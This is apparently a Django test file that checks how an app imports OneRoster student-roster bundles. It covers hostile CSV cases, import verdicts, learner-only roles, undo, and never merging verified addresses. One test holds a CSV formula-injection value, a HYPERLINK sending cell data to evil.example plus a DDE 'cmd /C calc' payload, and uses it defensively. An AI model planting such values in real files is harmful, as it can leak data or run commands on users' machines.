# SPDX-License-Identifier: Apache-2.0
"""Rosters of student systems: every case ends as the index says, in the reader and through the page."""

from __future__ import annotations

from typing import Final

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from cairn.accounts.models import Identifier, Person
from cairn.foundation.scopes import everything
from cairn.integrations.oneroster.bundle import Roster, read_bundle
from cairn.organizations.models import Membership, Organization
from tests.factories.people import make_organization, make_person
from tests.hostile.cases import Case, list_cases
from tests.hostile.guard import bounded
from tests.shared_data import shared_path

CASES: Final = [case for case in list_cases("roster") if case.file.endswith("/")]
VERDICTS: Final = {"accept": "accepted", "partial": "partial", "reject": "refused"}
CODES: Final = {
    "R196": ["duplicate_id", "duplicate_id"],
    "R197": ["unknown_org"],
    "R198": ["org_cycle"],
    "R199": ["not_a_learner"],
    "R201": [],
    "R202": ["encoding"],
    "R203": [],
    "R205": ["empty_users"],
    "R208": ["control_character"],
    "R209": ["invalid_email"],
    "R210": ["possible_duplicate", "invisible_character"],
    "R212": [
        *("duplicate_result", "out_of_range", "not_a_score", "not_a_score", "not_a_score", "wrong_columns"),
        *("not_a_score", "not_a_score", "not_a_score", "not_a_score"),
    ],
}
ADA: Final = ("Ada Lovelace", "ada@example.org")


def _files(folder: str) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(shared_path(folder).glob("*.csv"))}


def _read(case: Case, encoding: str = "") -> Roster:
    with bounded():
        return read_bundle(_files(f"hostile/{case.file}"), encoding=encoding)


def _case(name: str) -> Case:
    return next(case for case in CASES if case.id == name)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_the_reader_says_what_the_index_expects(case: Case) -> None:
    roster = _read(case)
    assert roster.verdict == VERDICTS[case.expected]
    assert [finding.code for finding in roster.findings] == CODES[case.id]
    if roster.verdict == "partial":
        assert [(person.name, person.email) for person in roster.people] == [ADA]
    if roster.verdict == "refused":
        assert roster.people == ()


@pytest.mark.skipif(not CASES, reason="the shared data is missing")
def test_what_is_normal_in_the_wild_is_read_exactly() -> None:
    (person,) = _read(_case("R201")).people
    assert (person.name, person.email) == ("José María O'Brien-Ñandú, Jr.", "JM@Example.org")


@pytest.mark.skipif(not CASES, reason="the shared data is missing")
def test_a_name_that_looks_like_a_formula_stays_as_it_is() -> None:
    person = _read(_case("R203")).people[1]
    assert person.name == '=HYPERLINK("http://evil.example?x="&A1,"x") @SUM(1+1)*cmd|\' /C calc\'!A0'


@pytest.mark.skipif(not CASES, reason="the shared data is missing")
def test_an_encoding_that_somebody_has_confirmed_is_used() -> None:
    roster = _read(_case("R202"), encoding="cp1252")
    assert (roster.verdict, roster.people[1].name) == ("accepted", "Zoë Müller")


@pytest.mark.skipif(not CASES, reason="the shared data is missing")
def test_only_a_plain_score_in_range_counts() -> None:
    assert [(result.line, str(result.score)) for result in _read(_case("R212")).results] == [(2, "95")]


# --- through the page ---


def _counts(organization: Organization) -> tuple[int, int, int]:
    with everything("the test counts"):
        members = Membership.objects.filter(organization=organization).count()
    return Person.objects.count(), Identifier.objects.count(), members


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_through_the_page_only_learners_are_added_and_a_refusal_stores_nobody(case: Case, client: Client) -> None:
    owner = make_person()
    organization = make_organization(owner=owner)
    client.force_login(owner, backend="allauth.account.auth_backends.AuthenticationBackend")
    before = _counts(organization)
    files = [SimpleUploadedFile(name, data) for name, data in _files(f"hostile/{case.file}").items()]
    shown = client.post(f"/o/{organization.slug}/people/import", {"bundle": files})
    assert shown.status_code == 302
    page = client.get(shown["Location"])
    assert (page.status_code, _counts(organization)) == (200, before)
    added = len(_read(case).people)
    applied = client.post(f"{shown['Location']}/apply")
    assert applied.status_code == 302
    assert _counts(organization) == tuple(count + added for count in before)
    with everything("the test looks at roles"):
        roles = list(Membership.objects.exclude(person=owner).values_list("roles", flat=True))
    assert roles == [["learner"]] * added


@pytest.mark.django_db(transaction=True)
def test_a_real_bundle_is_added_once_and_taken_back(client: Client) -> None:
    owner = make_person()
    organization = make_organization(owner=owner)
    client.force_login(owner, backend="allauth.account.auth_backends.AuthenticationBackend")
    files = [SimpleUploadedFile(*item) for item in _files("real/oneroster-lms-toolkit-1.1").items()]
    place = client.post(f"/o/{organization.slug}/people/import", {"bundle": files})["Location"]
    before = _counts(organization)
    assert client.post(f"{place}/apply").status_code == 302
    assert _counts(organization) == tuple(count + 8 for count in before)
    assert client.post(f"{place}/apply").status_code == 409
    again = client.post(
        f"/o/{organization.slug}/people/import",
        {"bundle": [SimpleUploadedFile(*item) for item in _files("real/oneroster-lms-toolkit-1.1").items()]},
    )["Location"]
    client.post(f"{again}/apply")
    assert _counts(organization) == tuple(count + 8 for count in before)
    assert client.post(f"{place}/undo").status_code == 302
    with everything("the test counts"):
        assert Membership.objects.filter(organization=organization, ended_at=None).count() == 1
    assert _counts(organization) == tuple(count + 8 for count in before)


@pytest.mark.django_db(transaction=True)
def test_whoever_has_shown_that_an_address_is_theirs_is_never_merged(client: Client) -> None:
    owner, admin = make_person(), make_person(email="ada@example.org")
    organization = make_organization(owner=owner)
    client.force_login(owner, backend="allauth.account.auth_backends.AuthenticationBackend")
    texts = {
        "manifest.csv": "propertyName,value\noneroster.version,1.1\n",
        "orgs.csv": "sourcedId,name,type\no1,School,school\n",
        "users.csv": "sourcedId,enabledUser,orgSourcedIds,role,givenName,familyName,email\n"
        "u1,true,o1,student,Ada,Other,ADA@example.org\nu2,true,o1,student,Bo,Example,bo@example.org\n",
    }
    uploads = [SimpleUploadedFile(name, text.encode()) for name, text in texts.items()]
    place = client.post(f"/o/{organization.slug}/people/import", {"bundle": uploads})["Location"]
    assert b"Invite them, so that they join by themselves." in client.get(place).content
    client.post(f"{place}/apply")
    with everything("the test looks at members"):
        names = list(Membership.objects.exclude(person=owner).values_list("person__name", flat=True))
    assert names == ["Bo Example"]
    assert not admin.identifiers.exists()
